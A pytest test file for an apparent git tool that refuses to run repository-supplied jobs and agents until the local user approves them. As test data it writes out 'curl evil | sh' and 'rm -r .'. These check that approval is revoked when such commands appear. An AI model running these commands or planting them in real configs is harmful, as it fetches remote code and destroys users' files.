"""Nothing that came with a repository runs before the user of this machine has approved it."""

import json
import stat

import pytest

FILE = """\
[changelings.writer]
run = "echo one >> README.md"

[roles.reviewer]
agent = "shouter"
prompt = "Review the change."

[agents.shouter]
command = ["sh", "-c", "true"]

[templates.evil]
run = "touch evil"
"""


def write_file(repository, text=FILE):
    repository.commit({".changelings.toml": text}, "changelings")


def trusted(repository):
    return {entry["name"]: entry["trusted"]
            for entry in repository.changeling("list", "--json").ok().json["changelings"]}


def approvals(repository):
    return {f"{entry['kind']}:{entry['name']}": entry
            for entry in repository.changeling("trust", "--list", "--json").ok().json["approvals"]}


def approval_files(sandbox):
    root = sandbox.home / ".local/share/git-changeling/approvals"
    return sorted(path for path in root.rglob("*.json"))


def refused(result, name):
    """The run was refused and says what to type."""
    result.expect(128)
    assert "not trusted" in result.err, result
    assert f"git changeling trust {name}" in result.err, result
    return result


def git_state(repository):
    config = (repository.common_directory() / "config").read_text()
    return repository.git("for-each-ref"), repository.git("status", "--porcelain"), config


@pytest.fixture
def clone(repository, sandbox):
    """A clone of a repository with one changeling on the state ref, as the attacker's would be."""
    repository.changeling("add", "writer", "--run", "echo one >> README.md").ok()
    repository.changeling("sync").ok()
    clone = sandbox.clone(repository.remote, "clone")
    clone.changeling("init").ok()
    return clone


def test_what_a_clone_brings_does_not_run_until_it_is_approved(clone):
    assert trusted(clone) == {"writer": False}
    refused(clone.changeling("run", "writer"), "writer")
    refused(clone.changeling("run", "writer", "--detach"), "writer")
    error = json.loads(clone.changeling("run", "writer", "--json").expect(128).err.splitlines()[-1])["error"]
    assert error["kind"] == "refused" and error["hint"].endswith("git changeling trust writer")
    assert clone.runs() == []
    clone.changeling("trust", "writer", "--yes").ok()
    assert trusted(clone) == {"writer": True}
    assert clone.changeling("run", "writer", "--json").ok().json["outcome"] == "opened-pr"


def test_a_dry_run_only_shows(clone):
    clone.changeling("run", "writer", "--dry-run").ok()


def test_an_approval_is_for_one_clone_only(clone, repository, sandbox):
    clone.changeling("trust", "writer", "--yes").ok()
    other = sandbox.clone(repository.remote, "other")
    other.changeling("init").ok()
    assert trusted(other) == {"writer": False}
    refused(other.changeling("run", "writer"), "writer")


def test_a_folder_that_is_moved_stays_trusted(clone, sandbox):
    clone.changeling("trust", "writer", "--yes").ok()
    clone.path.rename(sandbox.root / "moved")
    assert trusted(sandbox.adopt(sandbox.root / "moved")) == {"writer": True}


def test_any_change_revokes_and_the_difference_is_shown(clone, repository):
    clone.changeling("trust", "writer", "--yes").ok()
    repository.changeling("update", "writer", "--run", "curl evil | sh", "--verify", "make check").ok()
    repository.changeling("sync").ok()
    clone.changeling("sync").ok()
    assert trusted(clone) == {"writer": False}
    refused(clone.changeling("run", "writer"), "writer")
    shown = clone.changeling("trust", "writer").expect(1)
    lines = shown.out.splitlines()
    assert "-run: echo one >> README.md" in lines
    assert "+run: curl evil | sh" in lines
    assert "+verify:" in lines and "+  - make check" in lines
    assert not any(line.lstrip("+- ").startswith("timezone") and line[0] in "+-" for line in lines)
    entry = approvals(clone)["changeling:writer"]
    assert entry["state"] == "changed" and not entry["trusted"]
    assert "+run: curl evil | sh\n" in entry["difference"]
    clone.changeling("trust", "writer", "--yes").ok()
    assert approvals(clone)["changeling:writer"]["state"] == "trusted"


def test_going_back_to_what_was_approved_is_trusted_again(repository):
    write_file(repository)
    repository.changeling("trust", "writer", "--yes").ok()
    write_file(repository, FILE.replace("echo one", "echo two"))
    assert trusted(repository) == {"writer": False}
    write_file(repository)
    assert trusted(repository) == {"writer": True}


def test_without_yes_and_without_a_terminal_it_shows_and_changes_nothing(repository, sandbox):
    write_file(repository)
    result = repository.changeling("trust", "writer").expect(1)
    assert "run: echo one >> README.md" in result.out
    assert "agent_launcher: command" in result.out
    assert "git changeling trust writer --yes" in result.err
    answer = repository.changeling("trust", "writer", "--json").expect(1).json
    assert [entry["name"] for entry in answer["refused"]] == ["writer"] and answer["trusted"] == []
    assert approval_files(sandbox) == []


def test_on_a_terminal_it_asks(repository):
    write_file(repository)
    for answer in ("n\n", "\n", "yess\n"):
        assert "Trust writer? [y/N]" in "\n".join(repository.in_terminal("trust", "writer", typed=answer))
        assert trusted(repository) == {"writer": False}
    text = "\n".join(repository.in_terminal("trust", "writer", typed="y\n"))
    assert "run: echo one >> README.md" in text and "Trusted writer" in text
    assert trusted(repository) == {"writer": True}


def test_a_run_on_a_terminal_asks(repository):
    write_file(repository)
    text = "\n".join(repository.in_terminal("run", "writer", typed="n\n"))
    assert "run: echo one >> README.md" in text and "not trusted" in text
    assert repository.runs() == []
    repository.in_terminal("run", "writer", typed="y\n")
    run, = repository.runs()
    assert run["outcome"] == "opened-pr"
    assert trusted(repository) == {"writer": True}


def test_what_would_command_the_terminal_or_hide_is_written_out(repository):
    write_file(repository, '[changelings.x]\nprompt = "a\\u001b[2Kb \\u202e \\u200b"\n')
    text = repository.changeling("trust", "x").expect(1).out
    assert "prompt: a\\u{1b}[2Kb \\u{202e} \\u{200b}" in text
    assert "\x1b" not in text


def test_a_retry_does_not_get_round_it(repository):
    write_file(repository)
    repository.changeling("trust", "writer", "--yes").ok()
    run = repository.changeling("run", "writer", "--json").ok().json
    write_file(repository, FILE.replace("echo one", "echo two"))
    refused(repository.changeling("retry", run["id"]), "writer")
    assert len(repository.runs()) == 1
    skipped, = [event for event in repository.events() if event["event"] == "trigger:skipped"]
    assert skipped["changeling"] == "writer" and skipped["trigger"] == "retry"
    assert "not trusted" in skipped["reason"]


def test_what_one_adds_and_changes_oneself_is_approved_by_that(repository):
    assert repository.changeling("add", "mine", "--run", "true", "--json").ok().json["trusted"] is True
    assert trusted(repository) == {"mine": True}
    repository.changeling("update", "mine", "--run", "false").ok()
    repository.changeling("disable", "mine").ok()
    repository.changeling("enable", "mine").ok()
    editor = repository.sandbox.fake_program("editor", 'echo \'description = "edited"\' >> "$1"\n')
    repository.changeling("edit", "mine", env={"GIT_EDITOR": editor}).ok()
    assert repository.changeling("show", "mine", "--json").ok().json["description"] == "edited"
    assert trusted(repository) == {"mine": True}


def test_an_update_of_what_nobody_approved_does_not_approve_the_rest(clone):
    for words in (("update", "writer", "--description", "x"), ("add", "writer", "--update", "--label", "x"),
                  ("disable", "writer"), ("enable", "writer")):
        assert "git changeling trust writer" in clone.changeling(*words).ok().err
        assert trusted(clone) == {"writer": False}
    editor = clone.sandbox.fake_program("editor", 'echo \'draft = true\' >> "$1"\n')
    assert "not trusted" in clone.changeling("edit", "writer", env={"GIT_EDITOR": editor}).ok().err
    assert trusted(clone) == {"writer": False}


def test_a_name_of_the_file_that_is_taken_over_stays_unapproved(repository):
    write_file(repository)
    repository.changeling("update", "writer", "--description", "x").ok()
    assert trusted(repository) == {"writer": False}


@pytest.mark.parametrize("words", [["--template", "evil"], ["--agent", "shouter", "--prompt", "x"]])
def test_parts_of_the_repository_are_not_approved_by_naming_them(repository, words):
    write_file(repository)
    result = repository.changeling("add", "mine", *words).ok()
    assert "git changeling trust mine" in result.err
    refused(repository.changeling("run", "mine"), "mine")
    repository.changeling("trust", "mine", "--yes").ok()
    repository.changeling("update", "mine", "--description", "x").ok()
    assert trusted(repository)["mine"] is True


def test_turning_off_stops_what_nobody_watches_and_turning_on_takes_no_new_approval(repository):
    repository.changeling("add", "x", "--run", "true", "--schedule", "0 3 * * *").ok()
    repository.changeling("disable", "x").ok()
    skipped = repository.changeling("run", "x", "--trigger", "schedule", "--json")
    assert "x is disabled; enable it: git changeling enable x" in skipped.out + skipped.err
    assert repository.changeling("runs", "list", "--json").ok().json["runs"] == []
    assert repository.changeling("run", "x", "--json").ok().json["outcome"] == "no-changes"
    repository.changeling("enable", "x").ok()
    assert repository.changeling("run", "x", "--trigger", "schedule", "--json").ok().json["outcome"] == "no-changes"


def test_a_changed_agent_type_or_template_revokes(repository):
    write_file(repository)
    repository.changeling("add", "one", "--template", "evil").ok()
    repository.changeling("add", "two", "--agent", "shouter", "--prompt", "x").ok()
    repository.changeling("trust", "one", "two", "--yes").ok()
    write_file(repository, FILE.replace("touch evil", "touch more"))
    assert trusted(repository) == {"writer": False, "one": False, "two": True}
    write_file(repository, FILE.replace('"true"]', '"rm -r ."]'))
    assert trusted(repository) == {"writer": False, "one": True, "two": False}


def test_all_and_untrust(repository, sandbox):
    write_file(repository)
    answer = repository.changeling("trust", "--all", "--yes", "--json").ok().json
    assert {entry["name"] for entry in answer["trusted"]} == {"writer", "reviewer", "shouter"}
    assert all(entry["trusted"] for entry in approvals(repository).values())
    assert "already" in repository.changeling("trust", "--all").ok().out
    assert repository.changeling("untrust", "writer", "--json").ok().json == {"untrusted": ["writer"]}
    assert trusted(repository) == {"writer": False}
    refused(repository.changeling("run", "writer"), "writer")
    assert "not trusted anyway" in repository.changeling("untrust", "writer").expect(128).err
    assert repository.changeling("untrust", "--all", "--json").ok().json["untrusted"] == [
        "role:reviewer", "agent:shouter"]
    assert approval_files(sandbox) == []
    repository.changeling("untrust", "--all").ok()


def test_roles(repository):
    write_file(repository)
    assert approvals(repository)["role:reviewer"]["state"] == "new"
    repository.changeling("trust", "role:reviewer", "--yes").ok()
    assert approvals(repository)["role:reviewer"]["trusted"]
    repository.changeling("role", "add", "fixer", "--prompt", "Fix it.").ok()
    repository.changeling("role", "add", "fixer", "--update", "--prompt", "Fix it well.").ok()
    assert approvals(repository)["role:fixer"]["trusted"]
    assert "role:other" in repository.changeling("role", "add", "other", "--prompt", "x", "--agent",
                                                 "shouter").ok().err
    assert not approvals(repository)["role:other"]["trusted"]
    write_file(repository, FILE.replace("Review the", "Ruin the"))
    assert "+prompt: Ruin the change." in approvals(repository)["role:reviewer"]["difference"]
    assert "role:reviewer" in repository.changeling("role", "add", "reviewer", "--update", "--interactive").ok().err
    assert not approvals(repository)["role:reviewer"]["trusted"]


def test_approving_changes_nothing_in_the_repository(clone, sandbox):
    before = git_state(clone)
    clone.changeling("trust", "writer", "--yes").ok()
    clone.changeling("untrust", "writer").ok()
    clone.changeling("trust", "--all", "--yes").ok()
    assert git_state(clone) == before
    file = approval_files(sandbox)[-1]
    for path in [file, *list(file.parents)[:4]]:
        assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, path


def test_an_approval_that_others_could_have_written_is_refused(clone, sandbox):
    clone.changeling("trust", "writer", "--yes").ok()
    file, = [path for path in approval_files(sandbox) if path.name == "writer.json"
             and "echo one" in path.read_text() and path.stat().st_mtime_ns == max(
                 other.stat().st_mtime_ns for other in approval_files(sandbox))]
    for path, mode in ((file, 0o620), (file, 0o604), (file.parent, 0o707), (file.parent.parent.parent, 0o770)):
        before = stat.S_IMODE(path.stat().st_mode)
        path.chmod(mode)
        for words in (("run", "writer"), ("trust", "writer", "--yes"), ("add", "new", "--run", "true")):
            if words[0] == "add" and path == file:
                continue
            result = clone.changeling(*words).expect(128)
            assert f"others can read or write {path}" in result.err and "chmod go=" in result.err, result
        listed = clone.changeling("list", "--json").ok()
        assert listed.json["changelings"][0]["trusted"] is False and str(path) in listed.err
        path.chmod(before)
    assert trusted(clone) == {"writer": True}


def test_a_damaged_approval_is_none(repository, sandbox):
    repository.changeling("add", "mine", "--run", "true").ok()
    file, = approval_files(sandbox)
    file.write_text("{ not JSON")
    refused(repository.changeling("run", "mine"), "mine")
    repository.changeling("trust", "mine", "--yes").ok()
    assert trusted(repository) == {"mine": True}


def test_list_show_and_status_say_it(clone):
    for words in (("list",), ("status",), ("show", "writer")):
        assert "not trusted: git changeling trust writer" in clone.changeling(*words).ok().out
    assert clone.changeling("status", "--json").ok().json["changelings"][0]["trusted"] is False
    assert clone.changeling("show", "writer", "--json").ok().json["trusted"] is False
    clone.changeling("trust", "writer", "--yes").ok()
    for words in (("list",), ("status",), ("show", "writer")):
        assert "not trusted" not in clone.changeling(*words).ok().out


def test_removing_takes_the_approval_with_it(repository, sandbox):
    repository.changeling("add", "mine", "--run", "true").ok()
    repository.changeling("remove", "mine", "--yes").ok()
    assert approval_files(sandbox) == []
    repository.changeling("undo").ok()
    assert trusted(repository) == {"mine": False}


@pytest.mark.parametrize("words, message", [
    (["trust", "wrter", "--yes"], "did you mean 'writer'?"),
    (["trust", "role:wrong"], "there is no 'role:wrong'"),
    (["trust", "--yes"], "trust what?"),
    (["trust", "--all", "writer"], "exclude"),
    (["untrust"], "untrust what?"),
    (["untrust", "--all", "writer"], "untrust what?"),
])
def test_words_that_are_off(repository, words, message):
    write_file(repository)
    result = repository.changeling(*words)
    assert result.code in (128, 129) and message in result.err, result


def test_workers_take_no_task_for_a_role_that_is_not_trusted(repository, sandbox):
    write_file(repository)
    task = repository.add_task("Review it", "--role", "reviewer")
    for command in (("dispatch", "--role", "reviewer"), ("work", "--role", "reviewer", "--once")):
        refused = repository.changeling(*command).expect(128)
        assert "git changeling trust role:reviewer" in refused.err
    # A worker for anything finds it and gives it back; that is no failure of the task.
    repository.changeling("dispatch").expect(1)
    now = repository.task(task["id"])
    assert now["status"] == "ready"
    assert [attempt["outcome"] for attempt in now["attempts"]] == ["released"]
    assert repository.runs() == []
    # Looking is free.
    repository.changeling("dispatch", "--role", "reviewer", "--dry-run").ok()
    repository.changeling("trust", "role:reviewer", "--yes").ok()
    assert len(repository.changeling("dispatch", "--role", "reviewer", "--json").ok().json["runs"]) == 1
    write_file(repository, FILE.replace("sh", "bash"))
    repository.add_task("Review again", "--role", "reviewer")
    repository.changeling("dispatch", "--role", "reviewer").expect(128)
